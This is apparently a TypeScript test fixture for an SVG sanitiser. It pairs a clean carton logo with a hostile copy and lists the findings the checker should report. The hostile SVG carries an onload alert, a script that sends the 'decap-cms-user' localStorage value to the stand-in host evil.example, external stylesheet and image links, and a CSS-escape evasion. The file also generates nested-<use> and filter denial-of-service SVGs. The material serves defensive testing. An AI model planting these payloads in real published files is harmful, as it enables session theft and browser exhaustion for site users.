// A small logo's SVG source, and the same drawing as an attacker (or a careless export) could leave it: a script, an
// event attribute, a foreignObject and links to another site, none of which draws anything.

/** A dark-blue outlined carton in light blue, a red light, a soft shadow, on nothing. */
export const cleanLogoSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="220" viewBox="0 0 200 220">
  <ellipse cx="100" cy="205" rx="80" ry="8" fill="#1d2b53" fill-opacity="0.14"/>
  <rect x="40" y="40" width="120" height="160" fill="#c9def3" stroke="#1d2b53" stroke-width="8"/>
  <circle cx="100" cy="24" r="14" fill="#d8342a"/>
</svg>
`

/** The site another host would be: nothing of it may be published. */
export const attackerSite = `evil.example`

/**
 * The clean logo with each thing a published SVG must not hold. The carton's style would paint it magenta wherever
 * the link fails, as it does in every drawing program: a magenta pixel means the unsanitised source was drawn.
 */
export const hostileLogoSvg = `<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet href="https://${attackerSite}/sheet.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="220" viewBox="0 0 200 220" onload="alert(document.domain)">
  <script>fetch("https://${attackerSite}/steal?" + localStorage.getItem("decap-cms-user"))</script>
  <style>@import url(https://${attackerSite}/import.css); ellipse { fill: \\75 rl(https://${attackerSite}/escaped.png) }</style>
  <ellipse cx="100" cy="205" rx="80" ry="8" fill="#1d2b53" fill-opacity="0.14"/>
  <rect x="40" y="40" width="120" height="160" fill="#c9def3" stroke="#1d2b53" stroke-width="8" style="fill: url(https://${attackerSite}/paint.svg#p) #ff00ff"/>
  <foreignObject width="200" height="220"><div xmlns="http://www.w3.org/1999/xhtml">Pay the band at ${attackerSite}</div></foreignObject>
  <image href="https://${attackerSite}/tracker.png" width="1" height="1"/>
  <image xlink:href="https://${attackerSite}/xlink-tracker.png" width="1" height="1"/>
  <circle cx="100" cy="24" r="14" fill="#d8342a"/>
</svg>
`

/** What the checker says was taken out of the hostile logo, in the order found. */
export const takenOutOfHostileLogo = [
  `an <?xml-stylesheet?> instruction with a link to https://${attackerSite}/sheet.css`,
  `an onload attribute on <svg>`,
  `a <script> element`,
  `a <style> element with a link to https://${attackerSite}/import.css`,
  `a <style> element with a link to https://${attackerSite}/escaped.png`,
  `a link to https://${attackerSite}/paint.svg#p`,
  `a <foreignObject> element`,
  `a link to https://${attackerSite}/tracker.png`,
  `a link to https://${attackerSite}/xlink-tracker.png`,
]

/**
 * A logo of `levels` of <use>, each repeating the level below `times`: five levels of 12 are 248,832 squares from
 * about 2 KB, which a browser draws one by one.
 */
export function nestedUseLogo(levels: number, times: number): string {
  let defs = `<rect id="level0" width="1" height="1"/>`
  for (let level = 1; level <= levels; level++) {
    const uses = Array.from({ length: times }, (_, x) => `<use href="#level${level - 1}" x="${x}"/>`).join(``)
    defs += `<g id="level${level}">${uses}</g>`
  }
  return `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200"><defs>${defs}</defs><use href="#level${levels}"/></svg>\n`
}

/** Filters that cost a drawing library seconds to minutes per element, from a few bytes each. */
export const filterLogos = {
  morphology: `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200"><filter id="f"><feMorphology radius="5000"/></filter>${`<rect width="400" height="200" filter="url(#f)"/>`.repeat(5)}</svg>\n`,
  turbulence: `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200"><filter id="t"><feTurbulence baseFrequency="0.05" numOctaves="100000"/></filter><rect width="400" height="200" filter="url(#t)"/></svg>\n`,
}
